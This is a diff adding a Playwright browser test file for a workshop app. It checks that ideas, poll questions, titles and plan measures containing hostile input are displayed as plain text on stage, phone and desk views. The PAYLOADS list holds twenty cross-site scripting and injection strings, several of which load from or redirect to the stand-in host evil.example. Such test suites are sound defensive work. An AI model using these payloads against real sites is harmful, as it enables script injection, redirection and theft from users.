@@ -1,0 +1,118 @@
+"""What people write is text: it runs nothing, asks for nothing and is shown as it was written."""
+
+from collections.abc import Iterator
+
+import pytest
+from playwright.sync_api import Page, expect
+
+from tests.browser import room as rooms
+from tests.browser.conftest import Visits
+from tests.browser.room import House, Room
+from workshop.db import new_id
+from workshop.plan import actions as plan
+
+pytestmark = pytest.mark.browser
+PAYLOADS = (
+    "<script>window.ran=1</script>",
+    "<img src=x onerror=window.ran=1>",
+    "<svg onload=window.ran=1>",
+    "<svg><script>window.ran=1</script></svg>",
+    "\"><img src=//evil.example/x onerror=window.ran=1>",
+    "'><script src=//evil.example/x.js></script>",
+    "</textarea><script>window.ran=1</script>",
+    "</title><script>window.ran=1</script>",
+    "<iframe src=javascript:window.ran=1></iframe>",
+    "<a href=javascript:window.ran=1>klicka</a>",
+    "<style>@import '//evil.example/x.css';</style>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
+    "<base href=//evil.example/>",
+    "<form action=//evil.example/><button>Skicka</button></form>",
+    "{{ 7 * 7 }} {% raw %} ${7*7} #{7*7}",
+    "<math><mtext><table><mglyph><style><img src=x onerror=window.ran=1>",
+    "&lt;b&gt; &#60;script&#62; &amp;amp;",
+    "<div id=fragment data-rev=999999></div><input name=csrf_token>",
+    "=HYPERLINK(\"//evil.example/\") 👩🏽‍💻 مرحبا שלום",
+)
+
+
+@pytest.fixture(scope="module")
+def room(house: House) -> Iterator[Room]:
+    room = rooms.make(house, title=" ".join(PAYLOADS)[:160])
+    room.fill()
+    return room
+
+
+def untouched(*pages: Page) -> None:
+    for page in pages:
+        assert page.evaluate("window.ran") is None
+        assert page.evaluate("document.querySelectorAll('#fragment').length") <= 1
+
+
+def listed(page: Page, selector: str) -> list[str]:
+    found: list[str] = page.locator(selector).evaluate_all("(all) => all.map((e) => e.textContent)")
+    return found
+
+
+def test_twenty_ideas_are_shown_as_written(visits: Visits, room: Room) -> None:
+    """Sent by phone, one of them by a socket, the others by form; pushed and drawn on reload."""
+    step = room.show("ideas")
+    stage, phone, desk = visits.stage(room), visits.phone(room), visits.desk(room)
+    for payload in PAYLOADS:
+        phone.get_by_label("Din idé").fill(payload)
+        phone.get_by_role("button", name="Skicka idén").click()
+        expect(phone.get_by_label("Din idé")).to_have_value("")
+    room.lead().command(f"/kort/alla/{step.id}")
+    expect(stage.locator(".notes-wall li")).to_have_count(len(PAYLOADS))
+    expect(phone.locator(".cards li")).to_have_count(len(PAYLOADS))
+    pushed = listed(stage, ".notes-wall li"), listed(phone, ".cards li"), listed(desk, "#cards .idea > p")
+    assert [sorted(texts) for texts in pushed] == [sorted(PAYLOADS)] * 3
+    untouched(stage, phone, desk)
+    for page in (stage, phone, desk):
+        page.reload()
+    assert listed(stage, ".notes-wall li") == pushed[0]
+    untouched(stage, phone, desk)
+
+
+def test_twenty_questions_are_asked_as_written(visits: Visits, room: Room) -> None:
+    stage, phone, desk = visits.stage(room), visits.phone(room), visits.desk(room)
+    for payload in PAYLOADS:
+        room.lead().ask(payload, [payload, "Annat"])
+        expect(phone.locator("legend h1")).to_have_text(payload, use_inner_text=False)
+        expect(stage.locator(".slide h1")).to_have_text(payload)
+        assert listed(phone, "#answer label.choice span") == [payload, "Annat"]
+    phone.reload()
+    expect(phone.locator("legend h1")).to_have_text(PAYLOADS[-1])
+    assert room.now().title == PAYLOADS[-1]
+    untouched(stage, phone, desk)
+
+
+def test_a_hostile_title_is_a_title_everywhere(visits: Visits, room: Room) -> None:
+    title = room.about.title
+    desk, phone = visits.desk(room, "/"), visits.phone(room, "/din-kod")
+    assert desk.locator("h1").text_content() == title
+    assert desk.title() == f"{title} – Kompetenslyft"
+    assert title in (phone.locator("header").text_content() or "")
+    for place in ("/korschema", "/plan", "/uppgifter", "/medlemmar", "/led", "/plan/forhandsvisning", "/avsluta"):
+        desk.goto(room.desk + place)
+        untouched(desk)
+    untouched(phone)
+
+
+def test_measures_are_shown_as_written(visits: Visits, room: Room) -> None:
+    """Every payload in every field of words, in the list, the preview and on the stage."""
+    words = ("what", "owner", "board", "money_note", "benefit", "indicator", "follow_up", "first_step", "children")
+    for payload in PAYLOADS:
+        written = dict.fromkeys(words, payload) | {"theme_key": "", "money": "askas"}
+        empty = {"starts_on": None, "done_by": None, "follow_up_on": None}
+        room.house.database.act(plan.add, room.workshop, new_id(), written | empty)
+    last = [step for step in room.steps("measures") if not step.theme_key][-1]
+    room.lead().show(last.id)
+    stage, desk = visits.stage(room), visits.desk(room, "/plan")
+    assert listed(stage, ".slide tbody th") == list(PAYLOADS)
+    assert [text.partition(" ")[2] for text in listed(desk, ".measures h3")] == list(PAYLOADS)
+    untouched(stage, desk)
+    desk.goto(room.desk + "/plan/forhandsvisning")
+    page = desk.locator("article").text_content() or ""
+    assert [payload for payload in PAYLOADS if payload not in page] == []
+    untouched(desk)
